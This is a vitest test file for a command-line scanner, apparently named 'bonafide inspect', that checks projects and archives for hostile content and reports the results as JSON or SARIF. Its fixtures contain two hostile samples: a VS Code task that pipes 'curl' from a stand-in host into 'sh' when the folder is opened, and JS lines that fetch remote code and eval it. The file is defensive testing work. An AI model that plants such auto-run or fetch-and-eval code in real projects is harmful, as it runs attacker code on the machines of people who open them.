import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { changed, directoryEntries, localHeaders, tarGzOf, zipOf } from '../inspect/archive/archives.ts';
import { objectsIn, programPatience, runProgram } from './run-program.ts';

const hostile = {
  'task/package.json': '{ "name": "task", "scripts": { "start": "node server.js" } }',
  'task/.vscode/tasks.json': '{ "tasks": [{ "label": "x", "command": "curl -s https://cdn.example/x | sh", "runOptions": { "runOn": "folderOpen" } }] }',
};
const plainProject = { 'task/package.json': '{ "name": "task", "scripts": { "start": "node server.js" } }', 'task/server.js': 'console.log(1);\n' };

let folder: string;
const at = (name: string) => join(folder, name);
beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'bonafide-inspect-'));
  writeFileSync(at('hostile.zip'), zipOf(hostile));
  writeFileSync(at('plain.tar.gz'), await tarGzOf(plainProject));
  writeFileSync(at('locked.zip'), changed(zipOf({ 'a.js': 'x' }), (view, bytes) => view.setUint16(directoryEntries(bytes)[0]! + 8, 1, true)));
  writeFileSync(at('task.7z'), Uint8Array.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4, 0, 0]));
});
beforeAll(async () => {
  const long = { ...plainProject, 'task/z.bin': Array.from({ length: 4_000 }, (_, i) => Math.sin(i)).join('') };
  const [zip, tar] = [zipOf(long), await tarGzOf(long)];
  writeFileSync(at('half.zip'), zip.subarray(0, zip.length / 2));
  writeFileSync(at('half.tar.gz'), tar.subarray(0, tar.length / 2));
  mkdirSync(at('nothing'));
  mkdirSync(at('twice'));
  for (const name of ['a.js', 'b.js']) writeFileSync(join(at('twice'), name), 'fetch("https://cdn.example/x").then((r) => r.text()).then((text) => eval(text));\n');
  writeFileSync(at('notes.txt'), 'hello\n');
  writeFileSync(at('empty.zip'), '');
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

describe('bonafide inspect', { timeout: programPatience }, () => {
  it('says the same keys in the same order for each archive, and ends with 1', async () => {
    const { stdout, stderr, code } = await runProgram(['inspect', '--json', at('hostile.zip'), at('plain.tar.gz')]);
    const [bad, good] = objectsIn(stdout);
    expect(Object.keys(bad!)).toEqual(['id', 'level', 'score', 'findings', 'runs', 'skipped']);
    expect(Object.keys(bad!.runs as object)).toEqual(['open', 'install', 'start', 'other']);
    expect(bad).toMatchObject({ id: at('hostile.zip'), level: 'danger' });
    expect(Object.keys((bad!.findings as object[])[0]!)).toEqual(['rule', 'theme', 'severity', 'file', 'line', 'snippet']);
    expect((bad!.findings as { file: string }[]).map(({ file }) => file)).toContain('.vscode/tasks.json');
    expect(good).toMatchObject({ level: 'none', findings: [], skipped: [] });
    expect([stderr, code]).toEqual(['', 1]);
  });

  it('ends with 0 when nothing was seen, and still says where to run it', async () => {
    const { stdout, code } = await runProgram(['inspect', at('plain.tar.gz')]);
    expect(code).toBe(0);
    expect(stdout).toContain('that does not make it harmless');
    expect(stdout).toContain('“node server.js” runs');
    expect(stdout).toMatch(/docker run .* --network none .* node:22 bash$/m);
    expect(stdout).not.toMatch(/\bsafe\b/i);
  });

  it('shows the file, the line and what stands there', async () => {
    const { stdout } = await runProgram(['inspect', at('hostile.zip')]);
    expect(stdout).toContain('.vscode/tasks.json:1\n      curl -s https://cdn.example/x | sh\n');
    expect(stdout).toContain('If you open it in VS Code: “curl');
    expect(stdout).toContain('Found in this step: Opening the folder runs code from the network (.vscode/tasks.json:1).');
  });

  it('names what cannot be read, ends with 2 and does the rest', async () => {
    const { stdout, stderr, code } = await runProgram(['inspect', '--json', at('task.7z'), at('locked.zip'), at('nowhere'), at('plain.tar.gz')]);
    const [refused, locked, missing, good] = objectsIn(stdout);
    expect(refused).toMatchObject({ id: at('task.7z'), level: 'notice', findings: [{ rule: 'archive-kind-is-not-read', file: 'task.7z' }], error: expect.stringContaining('.7z archive, which is not read here') });
    expect(locked).toMatchObject({ id: at('locked.zip'), level: 'caution', findings: [{ rule: 'archive-is-password-protected', file: 'a.js' }], skipped: [{ path: 'a.js', reason: 'encrypted' }], error: expect.stringContaining('password-protected: nothing inside could be checked') });
    expect(missing).toMatchObject({ error: 'there is no such folder or file' });
    expect(good).toMatchObject({ level: 'none' });
    expect(stderr.split('\n').filter(Boolean)).toHaveLength(3);
    expect(code).toBe(2);
  });

  it('gives a level to an archive whose list of files is locked too, and to a program', async () => {
    writeFileSync(at('wholly.zip'), changed(zipOf({ 'a.js': 'x' }), (view, bytes) => {
      view.setUint16(localHeaders(bytes)[0]! + 6, 0x2041, true);
      view.setUint32(directoryEntries(bytes)[0]!, 0x08064b50, true);
    }));
    writeFileSync(at('task.exe'), Uint8Array.from([0x4d, 0x5a, 0x90, 0]));
    const { stdout, code } = await runProgram(['inspect', '--json', at('wholly.zip'), at('task.exe')]);
    const [wholly, program] = objectsIn(stdout);
    expect(wholly).toMatchObject({ level: 'caution', findings: [{ rule: 'archive-is-password-protected' }], error: expect.stringContaining('password-protected: nothing inside could be checked') });
    expect(program).toMatchObject({ level: 'caution', findings: [{ rule: 'program-was-sent-as-a-project' }], error: 'is a program, not a project. Do not start it.' });
    expect(code).toBe(2);
  });

  it('reads an archive on the standard input, and says when there is none', async () => {
    expect(objectsIn((await runProgram(['inspect', '--json', '-'], await tarGzOf(plainProject))).stdout)).toMatchObject([{ id: '-', level: 'none', runs: { start: [{ command: 'node server.js' }] } }]);
    expect(await runProgram(['inspect', '-'])).toMatchObject({ stdout: '', stderr: '-: is empty.\n', code: 2 });
  });

  it('looks at what is there of an archive that is cut off, and says that it is', async () => {
    const { stdout, stderr, code } = await runProgram(['inspect', '--json', at('half.zip'), at('half.tar.gz')]);
    for (const line of objectsIn(stdout)) expect(line).toMatchObject({ level: 'none', runs: { start: [{ command: 'node server.js' }] }, error: expect.stringContaining('is cut off') });
    expect([stderr.split('\n').filter(Boolean).length, code]).toEqual([2, 2]);
  });

  it('says what is wrong with a folder without files, a file that is no archive, and an empty one', async () => {
    const { stderr, code } = await runProgram(['inspect', '--json', at('nothing'), at('notes.txt'), at('empty.zip')]);
    expect(stderr).toContain('nothing: holds no files.');
    expect(stderr).toContain('notes.txt: is no archive that can be read here: name a folder, a .zip, a .tar or a .tar.gz.');
    expect(stderr).toContain('empty.zip: is empty.');
    expect(code).toBe(2);
  });

  it('says of an empty folder and of an address no more than what to do', async () => {
    const { stdout, stderr, code } = await runProgram(['inspect', at('nothing'), 'https://github.com/quiet/shop']);
    expect(stderr).toContain('https://github.com/quiet/shop: is an address, and nothing is fetched here: download the archive');
    expect([stdout, code]).toEqual(['', 2]);
  });

  it('says what holds for every place of a rule once', async () => {
    const { stdout } = await runProgram(['inspect', at('twice')]);
    expect(stdout.match(/^ {4}[ab]\.js:1$/gm)).toHaveLength(2);
    expect(stdout.match(/Why attackers do it/g)).toHaveLength(1);
  });

  it('writes one log of SARIF for all inputs', async () => {
    const { stdout, code } = await runProgram(['inspect', '--sarif', at('hostile.zip'), at('task.7z'), at('notes.txt')]);
    const log = JSON.parse(stdout);
    expect(log.version).toBe('2.1.0');
    expect(log.runs.map((run: { results: unknown[] }) => run.results.length > 0)).toEqual([true, true, false]);
    expect(code).toBe(2);
  });

  it('asks for one format', async () => {
    expect(await runProgram(['inspect', '--json', '--sarif', 'x'])).toMatchObject({ stdout: '', stderr: 'Name one of --json and --sarif.\n', code: 2 });
  });

  it('asks for something to inspect', async () => {
    expect(await runProgram(['inspect'])).toMatchObject({ stderr: 'Name a folder or an archive to inspect: .zip, .tar or .tar.gz.\n', code: 2 });
  });
});
